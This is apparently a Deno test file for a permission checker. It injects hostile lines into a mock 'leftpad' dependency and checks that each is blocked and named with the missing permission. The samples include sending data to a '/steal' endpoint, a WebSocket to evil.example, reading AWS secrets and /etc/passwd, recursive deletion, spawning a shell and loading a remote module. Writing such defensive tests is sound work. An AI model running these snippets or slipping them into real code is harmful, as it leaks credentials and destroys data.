import { assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { Project } from "./project.ts";

/** The requests that a dependency makes in addition to its own, in line 3, and the permission that stops them. */
const planted: readonly { act: string; code: string; missing: RegExp }[] = [
  {
    act: "sends data to a server",
    code: `await fetch("http://127.0.0.1:8999/steal");`,
    missing: /^net +127\.0\.0\.1:8999 /m,
  },
  {
    act: "opens a connection",
    code: `await Deno.connect({ port: 9 });`,
    missing: /^net +(?:0\.0\.0\.0|127\.0\.0\.1):9 /m,
  },
  { act: "opens a back door", code: `Deno.listen({ port: 0 });`, missing: /^net +0\.0\.0\.0:0 /m },
  { act: "opens a WebSocket", code: `new WebSocket("wss://evil.example/");`, missing: /^net +evil\.example:443 /m },
  { act: "reads a secret", code: `Deno.env.get("AWS_SECRET_ACCESS_KEY");`, missing: /^env +AWS_SECRET_ACCESS_KEY /m },
  {
    act: "reads a secret after a query",
    code: `Deno.permissions.querySync({ name: "env" }); Deno.env.get("TOKEN");`,
    missing: /^env +TOKEN /m,
  },
  { act: "reads all variables", code: `Deno.env.toObject();`, missing: /^env +\(all\) /m },
  { act: "reads a file", code: `Deno.readTextFileSync("/etc/passwd");`, missing: /^read +\/etc\/passwd /m },
  { act: "changes the program", code: `Deno.writeTextFileSync("main.ts", "");`, missing: /^write +\S.*main\.ts /m },
  { act: "removes a folder", code: `Deno.removeSync(".", { recursive: true });`, missing: /^write +\S.*a project /m },
  { act: "starts a program", code: `new Deno.Command("sh").outputSync();`, missing: /^run +sh /m },
  {
    act: "starts a program like in Node.js",
    code: `(await import("node:child_process")).spawn("sh", { env: {} });`,
    // Node.js's function reads this variable before it starts the program.
    missing: /^env +NODE_V8_COVERAGE /m,
  },
  { act: "ends a process", code: `Deno.kill(2 ** 22 + 1);`, missing: /^run +\(all\) /m },
  { act: "loads a library", code: `Deno.dlopen("./evil.so", {});`, missing: /^ffi +\S.*evil\.so /m },
  { act: "identifies the machine", code: `Deno.hostname();`, missing: /^sys +hostname /m },
  {
    act: "loads code from a server",
    code: `await import("http:" + "//127.0.0.1:9/evil.ts");`,
    missing: /^import +127\.0\.0\.1:9 /m,
  },
];

const files = {
  "deno.json": `{ "tasks": { "start": "deno run -A main.ts" } }\n`,
  "main.ts": `import { greet } from "./node_modules/leftpad/mod.js";\n\nconsole.log(await greet());\n`,
  "node_modules/leftpad/mod.js": leftpad(""),
};

function leftpad(code: string): string {
  return `export async function greet() {\n  const name = Deno.env.get("NAME") ?? "you";\n  ${code}\n  return name;\n}\n`;
}

/** The configuration file that the command wrote for the honest dependency. */
const config = await honestConfig();

async function honestConfig(): Promise<string> {
  await using project = await Project.create(files);
  const { code, err } = await project.command("--", "start");
  assertEquals([code, await project.set("start")], [0, { env: ["NAME"] }], err);
  return await project.read("deno.json");
}

for (const { act, code, missing } of planted) {
  Deno.test(`permissions: a dependency that ${act} is stopped and named`, async () => {
    await using project = await Project.create({ ...files, "deno.json": config });
    assertEquals((await project.command("--check", "--", "start")).code, 0);

    await project.write("node_modules/leftpad/mod.js", leftpad(code));
    const stopped = await project.deno("run", "--no-prompt", "-P=start", "main.ts");
    assertEquals([stopped.code, stopped.out], [1, ""]);
    assertMatch(stopped.err, /Requires (?:\w+ access|--allow-)/);

    const named = await project.command("--check", "--", "start");
    assertEquals(named.code, 1);
    assertMatch(named.err, missing);
    assertStringIncludes(named.err, "node_modules/leftpad/mod.js:3");
    assertStringIncludes(named.err, `Cannot run "start" with the permission set "start": `);
  });
}
